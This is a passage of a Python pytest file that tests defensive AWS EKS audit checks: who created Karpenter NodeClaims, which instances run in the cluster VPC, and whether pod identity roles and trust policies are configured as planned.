        "describe_instances",
        {"Reservations": [{"Instances": instances}] if instances else []},
        {
            "Filters": [
                {"Name": f"tag:kubernetes.io/cluster/{CLUSTER}", "Values": ["owned"]},
                {"Name": "tag-key", "Values": ["karpenter.sh/nodepool"]},
                {"Name": "instance-state-name", "Values": list(checks.LIVE_STATES)},
            ]
        },
    )
    if events is None:
        return
    start = since or min(launches) - datetime.timedelta(hours=1)
    logs = _stubbed(aws_ctx, "logs")
    quiet = (
        checks.KARPENTER_TOKENS,
        checks.KARPENTER_PODS,
        checks.NODE_PROXIES,
        checks.KARPENTER_WORKLOADS,
        checks.KARPENTER_LEGACY_TOKENS,
    )
    for pattern, answer in ((checks.CLAIM_CREATES, events), *((q, []) for q in quiet)):
        asked = {
            "logGroupName": f"/aws/eks/{CLUSTER}/cluster",
            "logStreamNamePrefix": "kube-apiserver-audit",
            "filterPattern": pattern,
            "startTime": int(start.timestamp() * 1000),
            "endTime": int(NOW.timestamp() * 1000),
        }
        logs.add_response("filter_log_events", {"events": answer}, asked)


def test_claims_karpenter_made_pass(aws_ctx):
    _claims(aws_ctx, [HOUR_AGO], [_audit(checks.KARPENTER_USER)])
    outcome = one("aws.node-claim-creators", aws_ctx)
    assert outcome.status == "PASS" and "each claim made by system:serviceaccount:kube-system:karpenter" in (
        outcome.evidence
    ), outcome


def test_a_claim_the_deploy_role_made_fails_naming_who_and_the_audit_id(aws_ctx):
    """A claim copying its pool's label, class, taints and requirements passes kube.node-pools
    (test_the_claims_karpenter_makes_of_a_planned_pool_pass): only the audit log says the deploy role made it, and
    Karpenter launched it outside every NodePool's limits."""
    _claims(aws_ctx, [HOUR_AGO], [_audit(checks.KARPENTER_USER), _audit(DEPLOY_SESSION, audit_id="f00d")])
    outcome = one("aws.node-claim-creators", aws_ctx)
    assert outcome.status == "FAIL" and f"{DEPLOY_SESSION} created NodeClaim (a generated name) (f00d)" in (
        outcome.evidence
    ), outcome


@pytest.mark.parametrize(
    ("code", "uri"),
    [(403, "/apis/karpenter.sh/v1/nodeclaims"), (201, "/apis/karpenter.sh/v1/nodeclaims?dryRun=All")],
    ids=["refused", "dry-run"],
)
def test_a_create_that_made_no_claim_passes(aws_ctx, code, uri):
    _claims(aws_ctx, [HOUR_AGO], [_audit(checks.KARPENTER_USER), _audit(DEPLOY_SESSION, code=code, uri=uri)])
    assert one("aws.node-claim-creators", aws_ctx).status == "PASS"


def test_no_karpenter_instance_passes_without_reading_the_log(aws_ctx):
    _claims(aws_ctx, [])
    outcome = one("aws.node-claim-creators", aws_ctx)
    assert outcome.status == "PASS" and "no instance of Karpenter's" in outcome.evidence


def test_an_instance_older_than_the_audit_log_is_not_passed(aws_ctx):
    """prod keeps its control-plane logs 90 days (logRetentionDays) and a claim lives as long as its node
    (`expireAfter: Never`): who made an older one is no longer in the log, so the check says so, not PASS; the log
    it keeps is read all the same."""
    kept_from = NOW - datetime.timedelta(days=90)
    _claims(aws_ctx, [datetime.datetime(2026, 6, 1, tzinfo=datetime.UTC), HOUR_AGO], [], since=kept_from)
    outcome = one("aws.node-claim-creators", aws_ctx)
    assert outcome.status == "SKIP" and "1 of 2 Karpenter instance(s) older than the audit log's 90 days" in (
        outcome.evidence
    ), outcome


# --- aws.vpc-instances: nothing runs in the cluster's VPC but the stack's instances ------------------------------

VPC = "vpc-0123456789abcdef0"
GROUP_ASG = "eks-gpu-h100-1a2b3c4-5d6e"


def _vpc_holding(aws_ctx, *instances: dict) -> None:
    """The cluster's VPC holding `instances` (DescribeInstances answered by a Stubber in AWS's wire shapes: moto's
    instances carry no aws:autoscaling:groupName), and prod's gpu-h100 node group on its Auto Scaling group as
    aws.node-groups reads them (found once a run, ctx.found)."""
    aws_ctx.found["cluster"] = {"resourcesVpcConfig": {"vpcId": VPC}}
    group = {"nodegroupName": "gpu-h100-1a2b3c4", "resources": {"autoScalingGroups": [{"name": GROUP_ASG}]}}
    aws_ctx.found["cluster_groups"] = ({"gpu-h100": [group]}, {})
    _stubbed(aws_ctx, "ec2").add_response(
        "describe_instances",
        {"Reservations": [{"Instances": list(instances)}]},
        {
            "Filters": [
                {"Name": "vpc-id", "Values": [VPC]},
                {"Name": "instance-state-name", "Values": list(checks.LIVE_STATES)},
            ]
        },
    )


def _instance(n: int, ip: str = "10.40.1.10", **tags: str) -> dict:
    return {
        "InstanceId": f"i-{n:017x}",
        "LaunchTime": HOUR_AGO,
        "PrivateIpAddress": ip,
        "Tags": [{"Key": k, "Value": v} for k, v in tags.items()],
    }


LAYOUT = _instance(9, "10.40.63.254", **{"higgsfield.io/lustre-layout": "digest"})


def test_the_node_groups_nodes_and_the_layout_client_pass(aws_ctx):
    _vpc_holding(aws_ctx, _instance(1, **{checks.ASG_TAG: GROUP_ASG}), LAYOUT)
    outcome = one("aws.vpc-instances", aws_ctx)
    assert outcome.status == "PASS" and f"2 instance(s) in {VPC}" in outcome.evidence, outcome


@pytest.mark.parametrize(
    ("instance", "said"),
    [
        # the deploy role's own, or a forged NodeClaim's with Karpenter's tags taken off (test_r18_claim_creators)
        (_instance(2), "i-00000000000000002 (launched 2026-12-05 08:00:00+00:00; no tags)"),
        (_instance(3, **{checks.ASG_TAG: "eks-not-planned-0a0a"}), "aws:autoscaling:groupName=eks-not-planned-0a0a"),
        (_instance(4, "10.40.63.254"), "i-00000000000000004"),  # the layout client's address, not its tag
    ],
    ids=["untagged", "an-unplanned-group", "at-the-layout-address-untagged"],
)
def test_an_instance_the_stack_does_not_run_fails_naming_it(aws_ctx, instance, said):
    _vpc_holding(aws_ctx, _instance(1, **{checks.ASG_TAG: GROUP_ASG}), LAYOUT, instance)
    outcome = one("aws.vpc-instances", aws_ctx)
    assert outcome.status == "FAIL" and said in outcome.evidence and "terminate-instances" in outcome.fix, outcome


def karpenters_tags(pool: str) -> dict[str, str]:
    """The tags Karpenter launches an instance of the cluster with (getTags: aws/karpenter-provider-aws:pkg/utils/
    utils.go@v1.14.1): the owned tag, the cluster's name, the claim's NodePool and its EC2NodeClass."""
    cluster = {f"kubernetes.io/cluster/{CLUSTER}": "owned", "eks:eks-cluster-name": CLUSTER}
    return {**cluster, "karpenter.sh/nodepool": pool, "karpenter.k8s.aws/ec2nodeclass": pool}


@pytest.mark.parametrize(("pool", "status"), [("gpu-h100", "PASS"), ("gpu-rogue", "FAIL")])
def test_a_karpenter_instance_passes_for_a_planned_pool_alone(karpenter_plan, pool, status):
    ctx = connect.Context(STACK, karpenter_plan, None, None, now=lambda: NOW)
    _vpc_holding(ctx, _instance(5, **karpenters_tags(pool)))
    assert one("aws.vpc-instances", ctx).status == status


def test_an_addon_association_in_a_team_namespace_fails(aws_ctx, aws):
    """An add-on may be made in a namespace of one's choosing (CreateAddon's namespaceConfig): the EBS driver's in a
    team's namespace gives that team's pods of the driver's service account name a role of the deploy role's."""
    _identities(aws_ctx, aws, extra=[("llm", "ebs-csi-controller-sa", "aws-ebs-csi-driver")])
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL", outcome
    assert "llm/ebs-csi-controller-sa: made by add-on aws-ebs-csi-driver" in outcome.evidence


@pytest.mark.parametrize(
    "principal",
    # the account's own root: any of its principals allowed sts:AssumeRole, the deploy role among them
    [{"AWS": "arn:aws:iam::999999999999:root"}, "*", {"AWS": "arn:aws:iam::123456789012:root"}],
    ids=["another-account", "everyone", "this-account"],
)
def test_a_role_trusting_others_beside_pod_identity_fails(aws_ctx, aws, principal):
    """Session tags are what the caller says (sts:TagSession): a trust asking the right tags of another principal
    lets it in as the planned service account."""
    from components.identity import pod_identity_trust

    _identities(aws_ctx, aws)
    trust = json.loads(pod_identity_trust(CLUSTER, "kube-system", "cluster-autoscaler"))
    trust["Statement"].append({**trust["Statement"][0], "Principal": principal})
    aws.client("iam").update_assume_role_policy(
        RoleName="higgsfield-prod-cluster-autoscaler", PolicyDocument=json.dumps(trust)
    )
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and "role higgsfield-prod-cluster-autoscaler does not trust" in outcome.evidence


def test_an_association_to_another_accounts_role_fails_without_reading_ours(aws_ctx, aws):
    """GetRole by name reads this account's role: another account's of the same name would pass as ours."""
    outside = "arn:aws:iam::999999999999:role/higgsfield-prod-cluster-autoscaler"
    _identities(aws_ctx, aws, roleArn=outside)
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and f"kube-system/cluster-autoscaler: role {outside} of another account" in (
        outcome.evidence
    )


def test_an_association_with_workload_identity_fails(aws_ctx, aws):
    config = {
        "enabled": True,
        "templateArn": "arn:aws:iam::123456789012:workload-identity-template/t",
        "providerArn": "p",
    }
    _identities(aws_ctx, aws, workloadIdentityConfig=config)
    outcome = one("aws.pod-identities", aws_ctx)
    assert outcome.status == "FAIL" and "kube-system/cluster-autoscaler: workload identity on" in outcome.evidence
